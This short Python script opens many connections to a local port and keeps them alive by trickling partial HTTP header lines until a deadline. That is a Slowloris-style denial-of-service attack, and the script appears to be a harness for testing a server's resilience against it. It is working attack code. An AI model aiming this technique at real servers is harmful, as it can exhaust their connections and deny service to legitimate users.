"""N connections that trickle header lines forever (bounded by a deadline)."""
import socket, sys, time
port, n, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
conns = []
for _ in range(n):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        conns.append(s)
    except OSError:
        pass
end = time.time() + secs
while time.time() < end:
    for s in list(conns):
        try:
            s.sendall(b"X-Slow: 1\r\n")
        except OSError:
            conns.remove(s)
    time.sleep(1)
print("slowloris open at end:", len(conns), file=sys.stderr)
